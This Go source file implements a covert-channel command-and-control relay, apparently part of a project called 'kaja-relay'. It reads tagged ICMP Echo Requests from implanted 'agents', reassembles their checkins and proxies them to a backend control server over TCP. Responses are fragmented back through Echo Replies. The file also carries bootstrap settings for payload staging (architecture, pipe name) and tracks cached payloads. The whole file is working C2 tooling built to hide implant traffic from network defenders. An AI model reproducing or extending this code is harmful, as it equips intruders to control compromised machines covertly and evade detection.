// Package relay implements the covert channel relay: it reads tagged ICMP
// Echo Requests from agents, reassembles each checkin, proxies it to the
// backend control server over a framed TCP connection, and fragments the
// response back across Echo Replies.
package relay

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"sync"
	"sync/atomic"

	"github.com/dustin/go-humanize"

	"github.com/postalsys/kaja-relay/internal/backend"
	"github.com/postalsys/kaja-relay/internal/config"
	"github.com/postalsys/kaja-relay/internal/fragment"
	"github.com/postalsys/kaja-relay/internal/health"
	"github.com/postalsys/kaja-relay/internal/icmp"
	"github.com/postalsys/kaja-relay/internal/logging"
	"github.com/postalsys/kaja-relay/internal/metrics"
	"github.com/postalsys/kaja-relay/internal/recovery"
)

// Relay wires the ICMP socket, the session registry and the backend
// together and owns their lifecycle.
type Relay struct {
	cfg     *config.Config
	logger  *slog.Logger
	metrics *metrics.Metrics

	sock     *icmp.Socket
	registry *Registry
	sender   *fragment.Sender

	healthServer *health.Server

	ctx    context.Context
	cancel context.CancelFunc

	running  atomic.Bool
	stopOnce sync.Once
	wg       sync.WaitGroup
}

// New creates a relay from the given configuration.
func New(cfg *config.Config, logger *slog.Logger, m *metrics.Metrics) *Relay {
	if logger == nil {
		logger = logging.NopLogger()
	}
	if m == nil {
		m = metrics.Default()
	}

	ctx, cancel := context.WithCancel(context.Background())

	r := &Relay{
		cfg:      cfg,
		logger:   logger.With(slog.String(logging.KeyComponent, "relay")),
		metrics:  m,
		registry: NewRegistry(),
		sender:   fragment.NewSender(cfg.Relay.PayloadSize, cfg.Relay.ChunkDelay, logger),
		ctx:      ctx,
		cancel:   cancel,
	}

	if cfg.HTTP.Enabled {
		r.healthServer = health.NewServer(health.ServerConfig{
			Address:          cfg.HTTP.Address,
			ReadTimeout:      cfg.HTTP.ReadTimeout,
			WriteTimeout:     cfg.HTTP.WriteTimeout,
			AuthPasswordHash: cfg.HTTP.AuthPasswordHash,
		}, &relayStatsProvider{relay: r})
	}

	return r
}

// Start opens the ICMP socket and begins dispatching checkins.
func (r *Relay) Start() error {
	if r.running.Load() {
		return fmt.Errorf("relay already running")
	}

	sock, err := icmp.Listen(icmp.Config{
		Network: r.cfg.Listen.Network,
		Address: r.cfg.Listen.Address,
	}, r.logger)
	if err != nil {
		return fmt.Errorf("open icmp socket: %w", err)
	}
	r.sock = sock
	r.running.Store(true)

	r.wg.Add(1)
	go r.readLoop()

	if r.healthServer != nil {
		if err := r.healthServer.Start(); err != nil {
			r.logger.Error("failed to start HTTP server",
				logging.KeyAddress, r.cfg.HTTP.Address,
				logging.KeyError, err)
			r.running.Store(false)
			r.cancel()
			r.sock.Close()
			return fmt.Errorf("start HTTP server: %w", err)
		}
		r.logger.Info("HTTP server started",
			logging.KeyAddress, r.healthServer.Address())
	}

	r.logger.Info("relay started",
		logging.KeyTag, r.cfg.Relay.Tag,
		logging.KeyBackend, r.cfg.Backend.Address,
		logging.KeyAddress, r.cfg.Listen.Address)

	return nil
}

// Stop shuts the relay down. Detached checkin goroutines are not awaited;
// in-flight transfers are abandoned.
func (r *Relay) Stop() error {
	r.stopOnce.Do(func() {
		r.logger.Info("stopping relay")

		r.running.Store(false)

		if r.healthServer != nil {
			r.healthServer.Stop()
		}

		r.cancel()
		if r.sock != nil {
			r.sock.Close()
		}

		for _, sess := range r.registry.Snapshot() {
			sess.Close()
		}

		r.wg.Wait()

		r.logger.Info("relay stopped")
	})

	return nil
}

// StopWithContext stops with a timeout.
func (r *Relay) StopWithContext(ctx context.Context) error {
	done := make(chan error, 1)
	go func() {
		done <- r.Stop()
	}()

	select {
	case err := <-done:
		return err
	case <-ctx.Done():
		return ctx.Err()
	}
}

// IsRunning returns true if the relay is running.
func (r *Relay) IsRunning() bool {
	return r.running.Load()
}

// Sessions returns a snapshot of all registered sessions.
func (r *Relay) Sessions() []SessionInfo {
	sessions := r.registry.Snapshot()
	infos := make([]SessionInfo, 0, len(sessions))
	for _, s := range sessions {
		infos = append(infos, s.Info())
	}
	return infos
}

// readLoop pulls Echo Requests off the socket until the relay stops.
func (r *Relay) readLoop() {
	defer r.wg.Done()
	defer recovery.RecoverWithLog(r.logger, "read-loop")

	for {
		req, err := r.sock.ReadRequest(r.ctx)
		if err != nil {
			if r.ctx.Err() != nil {
				return
			}
			r.logger.Error("icmp read failed",
				logging.KeyError, err)
			return
		}
		r.handleRequest(req)
	}
}

// handleRequest classifies one inbound Echo Request. Announcements create
// or update a session and launch its checkin; data chunks are routed to the
// session already waiting for them.
func (r *Relay) handleRequest(req *icmp.Request) {
	body, ok := fragment.Strip(req.Payload, r.cfg.Relay.Tag)
	if !ok {
		r.metrics.RecordPacketDropped("no_tag")
		return
	}
	r.metrics.RecordPacketReceived()

	if req.Seq == 0 {
		r.handleAnnounce(req, body)
		return
	}
	r.handleChunk(req, body)
}

// handleAnnounce processes a seq=0 checkin announcement.
// Session creation dials the backend inline, so a slow dial backpressures
// the read loop; packets arriving meanwhile wait in the socket buffer.
func (r *Relay) handleAnnounce(req *icmp.Request, body []byte) {
	size, err := fragment.ParseSizeHeader(body)
	if err != nil {
		r.metrics.RecordPacketDropped("bad_announce")
		r.logger.Warn("invalid checkin announcement",
			logging.KeyAgentID, req.ID,
			logging.KeyRemoteAddr, req.Src.String(),
			logging.KeyError, err)
		return
	}

	if max := r.cfg.MaxTransferBytes(); max > 0 && uint64(size) > max {
		r.metrics.RecordPacketDropped("oversize_announce")
		r.logger.Warn("announced transfer exceeds limit",
			logging.KeyAgentID, req.ID,
			logging.KeySize, size,
			"limit", humanize.IBytes(max))
		return
	}

	if capacity := fragment.Capacity(r.cfg.Relay.PayloadSize, r.cfg.Relay.Tag); int(size) > capacity {
		r.logger.Warn("large inbound transfer, agent may appear offline until it completes",
			logging.KeyAgentID, req.ID,
			logging.KeySize, humanize.IBytes(uint64(size)))
	}

	sess := r.registry.Get(req.ID)
	if sess == nil {
		sess = r.createSession(req, size)
		if sess == nil {
			return
		}
	} else {
		if sess.AgentAddr.String() != req.Src.String() {
			r.logger.Warn("agent id seen from new address",
				logging.KeyAgentID, req.ID,
				logging.KeyRemoteAddr, req.Src.String(),
				"session_addr", sess.AgentAddr.String())
		}
		sess.SetExpectedSize(size)
	}

	// Not tracked by the relay wait group: shutdown abandons in-flight
	// checkins instead of waiting on agents that may never finish.
	go func() {
		defer recovery.RecoverWithCallback(r.logger, "checkin", func(interface{}) {
			r.metrics.RecordPanic()
		})
		sess.Checkin(r.ctx)
	}()
}

// createSession dials the backend and registers a new session. A failed
// dial discards the session; the agent's next announcement will retry.
func (r *Relay) createSession(req *icmp.Request, size uint32) *Session {
	ch, err := backend.Dial(backend.Config{
		Address:        r.cfg.Backend.Address,
		ConnectTimeout: r.cfg.Backend.ConnectTimeout,
		ReadTimeout:    r.cfg.Backend.ReadTimeout,
	}, r.logger)
	if err != nil {
		r.metrics.RecordBackendConnectError()
		r.logger.Error("backend unreachable, discarding session",
			logging.KeyAgentID, req.ID,
			logging.KeyBackend, r.cfg.Backend.Address,
			logging.KeyError, err)
		return nil
	}
	r.metrics.RecordBackendConnect()

	sess := NewSession(req.ID, req.Src, r.cfg.Relay.Tag, size, SessionConfig{
		Channel: ch,
		Writer: &replyWriter{
			sock:    r.sock,
			dst:     req.Src,
			id:      req.ID,
			metrics: r.metrics,
		},
		Sender:     r.sender,
		DefaultTag: r.cfg.Relay.Tag,
		Bootstrap: backend.Bootstrap{
			Arch:      r.cfg.Bootstrap.Arch,
			PipeName:  r.cfg.Bootstrap.PipeName,
			BlockSize: r.cfg.Bootstrap.BlockSize,
		},
		MailboxSize:       r.cfg.Session.MailboxSize,
		ReassemblyTimeout: r.cfg.Session.ReassemblyTimeout,
		Logger:            r.logger,
		Metrics:           r.metrics,
	})
	r.registry.Put(sess)
	r.metrics.RecordSessionCreated()

	r.logger.Info("new agent session",
		logging.KeyAgentID, req.ID,
		logging.KeyRemoteAddr, req.Src.String(),
		logging.KeySize, size)

	return sess
}

// handleChunk routes a seq>=1 data chunk to its session.
func (r *Relay) handleChunk(req *icmp.Request, body []byte) {
	sess := r.registry.Get(req.ID)
	if sess == nil {
		r.metrics.RecordPacketDropped("no_session")
		return
	}

	// Chunks must come from the address the session checked in from.
	if sess.AgentAddr.String() != req.Src.String() {
		r.metrics.RecordPacketDropped("source_mismatch")
		return
	}

	if err := sess.Deliver(body); err != nil {
		switch {
		case errors.Is(err, ErrNotReassembling):
			r.metrics.RecordPacketDropped("not_reassembling")
		case errors.Is(err, ErrMailboxFull):
			r.metrics.RecordPacketDropped("mailbox_full")
			r.logger.Warn("session mailbox overflow, dropping chunk",
				logging.KeyAgentID, req.ID,
				logging.KeySeq, req.Seq)
		}
		return
	}
	r.metrics.RecordChunkReceived()
}

// replyWriter adapts the ICMP socket to the fragment writer interface for
// one agent.
type replyWriter struct {
	sock    *icmp.Socket
	dst     net.Addr
	id      uint16
	metrics *metrics.Metrics
}

func (w *replyWriter) WriteMessage(m fragment.Message) error {
	if err := w.sock.WriteReply(w.dst, w.id, m.Seq, m.Encode()); err != nil {
		return err
	}
	w.metrics.RecordReplySent()
	return nil
}

// HealthStats returns relay statistics for the health server.
func (r *Relay) HealthStats() health.Stats {
	sessions := r.registry.Snapshot()

	active := 0
	cached := 0
	for _, s := range sessions {
		info := s.Info()
		if info.State != StateIdle.String() {
			active++
		}
		if info.PayloadCached {
			cached++
		}
	}

	return health.Stats{
		SessionCount:   len(sessions),
		ActiveCheckins: active,
		PayloadsCached: cached,
		BackendAddress: r.cfg.Backend.Address,
	}
}

// relayStatsProvider adapts Relay to health.StatsProvider.
type relayStatsProvider struct {
	relay *Relay
}

// IsRunning implements health.StatsProvider.
func (p *relayStatsProvider) IsRunning() bool {
	return p.relay.IsRunning()
}

// Stats implements health.StatsProvider.
func (p *relayStatsProvider) Stats() health.Stats {
	return p.relay.HealthStats()
}

// Sessions implements health.StatsProvider.
func (p *relayStatsProvider) Sessions() []health.SessionView {
	infos := p.relay.Sessions()
	views := make([]health.SessionView, 0, len(infos))
	for _, info := range infos {
		views = append(views, health.SessionView{
			AgentID:       info.AgentID,
			Address:       info.Address,
			State:         info.State,
			ExpectedSize:  info.ExpectedSize,
			PayloadCached: info.PayloadCached,
			Checkins:      info.Checkins,
			CreatedAt:     info.CreatedAt,
			LastActivity:  info.LastActivity,
		})
	}
	return views
}
